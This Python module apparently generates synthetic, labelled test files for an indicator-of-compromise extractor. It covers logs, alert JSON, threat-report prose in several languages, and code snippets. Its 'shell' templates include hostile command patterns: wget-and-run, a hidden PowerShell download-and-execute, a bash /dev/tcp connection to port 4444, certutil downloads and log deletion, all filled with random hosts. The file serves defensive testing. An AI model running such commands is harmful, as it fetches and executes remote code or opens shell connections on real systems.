"""Files as analysts open them, invented from a seed, each with the IOCs that a reader would mark.

Every kind also holds what looks like an IOC and is none: versions, file names, package names,
identifiers, netmasks, program text.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from string import Template

Label = tuple[str, str]
"""The type and the normal form of an IOC, such as `("domain", "example.com")`."""
SEED = 20_260_701
LINES_OF_A_FILE = 100

# `$name` stands for what the method of that name of `_Line` returns.
_TEMPLATES = {
    "CSV, unquoted": ("2026-03-$day 08:$minute,$url,$status,$service,$hash",),
    "tab-separated rows": ("2026-03-$day 08:$minute\t$url\t$status\t$service\t$hash",),
    "logs": (
        '$ipv4 - - [$day/Mar/2026:10:$minute:12 +0000] "GET $path HTTP/1.1" 200 512 "$url" '
        '"okhttp/$version"',
        "named[811]: client @0x7f0$hex8 $ipv4#$port ($host): query: $same_host IN A + ($ipv4)",
        "%ASA-6-302013: Built outbound TCP connection $port for outside:$ipv4/443 ($ipv4/443)",
        "sshd[$port]: Invalid user $word from $ipv4 port $port",
        "access-list $word permit ip $ipv4 $mask any",
        "update: installed KB5$hex8 for Engine version $version",
        "INFO org.$word.$word.Server: started trace_id=$hex32",
        "CONNECT $host:443 HTTP/1.1 via proxy session=$hex32",
        "IP $ipv4.$port > $ipv4.443: Flags [S], length 0",
    ),
    "alert JSON": (
        '{"time": "2026-03-${day}T10:$minute:12.000Z", "event_id": "$hex32", "user_name": '
        '"$word.$surname", "process": {"command_line": "C:\\\\Windows\\\\$word.exe /u $url", '
        '"sha256": "$sha256"}, "agent_id": "$hex32"}',
        '{"host": {"ip": "$ipv4", "os": {"version": "$version"}}, "dns": {"rrname": "$host"}, '
        '"rule": "$word.rules", "agent_id": "$hex32", "url": "$json_url"}',
    ),
    "shell": (
        "cd /tmp;wget $url;chmod 777 $word.sh;sh $word.sh",
        "curl -sL $url&&rm -rf /var/$word.log",
        "bash -c 'exec 3<>/dev/tcp/$ipv4/4444; cat <&3'",
        "powershell -w hidden \"IEX(New-Object Net.WebClient).DownloadString('$url')\"",
        "git clone git@$host:$word/$word.git",
        "certutil -urlcache -f $url %TEMP%\\$word.exe",
        "python3 -m $word.main --config $word.yaml",
    ),
    "Chinese": (
        "攻击者通过钓鱼邮件投递样本$hash并连接$url下载后门程序。",
        "分析显示，该样本与$ipv4通信，域名为$host，邮箱$mailbox被用于注册。",
        "报告：$defanged_url为控制服务器，文件$word.exe的版本为$version。",
    ),
    "Japanese": (
        "感染した端末から$urlへの接続が確認された。",
        "検体のハッシュ値は$hashです。通信先は$hostと$ipv4です。",
        "不審なメールが$mailboxから送信され、$defanged_urlに誘導する。",
    ),
    "Korean": (
        "공격자는 $url에서 악성코드를 배포하고 $ipv4로 접속한다.",
        "명령제어 서버는 $host이며 해시는 $hash입니다.",
        "메일 $mailbox에서 $defanged_url로 연결된다.",
    ),
    "prose": (
        "The loader fetches $defanged_url, then beacons to $ipv4 every minute.",
        "Contact $mailbox or see $url.",
        "It drops $word.dll (SHA-256 $sha256).",
        "Version $version and earlier are affected; upgrade to version $version.",
        "C2: $defanged_host ($ipv4).",
        "The archive $word.zip holds $word.js and readme.md.",
        "The campaign used $cve, e.g. in June.",
        "The sample (imphash: $hex32) has the MD5 $md5.",
    ),
    "code": (
        "self.$word.name = os.path.join($word.info, '$word.py')",
        '<dependency groupId="org.$word" version="$version"/>',
        'const endpoint = "$url"; // $word.service.ts',
        'private static final String HOST = "$host";',
        "image: registry/$word:1.2.3",
        'commit = "$hex40"',
        "$word.$word.store.add($word.id)",
        "db_url = mongodb://$word:$word@localhost:27017/$word",
    ),
}
KINDS = tuple(_TEMPLATES)


@dataclass(frozen=True, slots=True)
class LabelledFile:
    """The text of a file, and the IOCs that a reader would mark in it."""

    kind: str
    text: str
    labels: frozenset[Label]


class _Lines(dict[str, str]):
    """Fills templates; the IOCs that it puts in are in `labels`."""

    def __init__(self, seed: int) -> None:
        super().__init__()
        self.labels: set[Label] = set()
        self.random = random.Random(seed)

    def line(self, kind: str) -> str:
        return Template(self.random.choice(_TEMPLATES[kind])).substitute(self)

    def __missing__(self, name: str) -> str:
        return str(getattr(self, name)())

    def _mark(self, kind: str, value: str, text: str = "") -> str:
        self.labels.add((kind, value))
        return text or value

    def _number(self, least: int, most: int) -> int:
        return self.random.randint(least, most)

    # What is none.

    def day(self) -> int:
        return self._number(10, 28)

    def minute(self) -> int:
        return self._number(10, 59)

    def port(self) -> int:
        return self._number(1024, 65_535)

    def status(self) -> str:
        return self.random.choice(("online", "offline", "malware_download", "phishing"))

    def service(self) -> str:
        return self.random.choice(("Google", "銀行", "Post", "税務署", "Bank"))

    def mask(self) -> str:
        return self.random.choice(("255.255.255.0", "255.255.0.0", "0.0.0.255"))

    def surname(self) -> str:
        return self.random.choice(("li", "ng", "de", "do"))  # each is a top-level domain

    def version(self) -> str:
        return ".".join(str(self._number(1, 20)) for _ in range(4))

    def word(self) -> str:
        # Four letters at least, so that no word is an abbreviation with a meaning of its own.
        return "".join(self.random.choices("abcdefghiklmnoprstuvwyz", k=self._number(4, 9)))

    def _hex(self, length: int) -> str:
        return f"{self.random.getrandbits(4 * length):0{length}x}"

    def hex8(self) -> str:
        return self._hex(8)

    def hex32(self) -> str:
        return self._hex(32)

    def hex40(self) -> str:
        return self._hex(40)

    def path(self) -> str:
        folders = "".join(f"/{self.word()}" for _ in range(self._number(0, 2)))
        ending = self.random.choice(("", ".php", ".html", ".exe", ".zip"))
        query = f"?{self.word()}={self._hex(8)}" if self.random.random() < 0.3 else ""
        return f"{folders}/{self.word()}{ending}{query}"

    # What is one.

    def _name(self) -> str:
        tld = self.random.choice(("com", "net", "org", "info", "xyz", "top", "ru", "co.uk", "dev"))
        return ".".join([*(self.word() for _ in range(self._number(1, 2))), tld])

    def host(self) -> str:
        self._host = self._name()
        return self._mark("domain", self._host)

    def same_host(self) -> str:
        return self._host

    def _address(self) -> str:
        first = self.random.choice((23, 45, 77, 91, 103, 185, 193, 212))
        return ".".join(map(str, (first, *(self._number(1, 250) for _ in range(3)))))

    def ipv4(self) -> str:
        return self._mark("ipv4", self._address())

    def md5(self) -> str:
        return self._mark("md5", self._hex(32))

    def sha256(self) -> str:
        return self._mark("sha256", self._hex(64))

    def hash(self) -> str:
        kind, length = self.random.choice((("md5", 32), ("sha1", 40), ("sha256", 64)))
        return self._mark(kind, self._hex(length))

    def cve(self) -> str:
        return self._mark("cve", f"CVE-2026-{self._number(1000, 9999)}")

    def url(self) -> str:
        host = self._name() if self.random.random() < 0.8 else self._address()
        port = f":{self.port()}" if self.random.random() < 0.15 else ""
        scheme = self.random.choice(("http", "https"))
        return self._mark("url", f"{scheme}://{host}{port}{self.path()}")

    def json_url(self) -> str:
        return self.url().replace("/", "\\/")

    def mailbox(self) -> str:
        return self._mark("email", f"{self.word()}@{self._name()}")

    def defanged_url(self) -> str:
        scheme, host, path = self.random.choice(("http", "https")), self._name(), self.path()
        spoilt = self.random.choice(("hxxp", "hXXp", "h**p")) + scheme[4:]
        colon = self.random.choice(("://", "[:]//", "[://]"))
        dot = self.random.choice(("[.]", "(.)", "[dot]", "{.}"))
        text = f"{spoilt}{colon}{host.replace('.', dot)}{path}"
        return self._mark("url", f"{scheme}://{host}{path}", text)

    def defanged_host(self) -> str:
        name = self._name()
        dot = self.random.choice(("[.]", "(.)", "[dot]", " [.] "))
        return self._mark("domain", name, name.replace(".", dot))


def labelled_files(lines: int, seed: int = SEED) -> Iterator[LabelledFile]:
    """Yield files of all kinds in turn, until they have so many lines; the same for each seed."""
    for number in range(-(-lines // LINES_OF_A_FILE)):
        kind = KINDS[number % len(KINDS)]
        filled = _Lines(seed * 1000 + number)
        text = "\n".join(filled.line(kind) for _ in range(LINES_OF_A_FILE))
        yield LabelledFile(kind, text + "\n", frozenset(filled.labels))
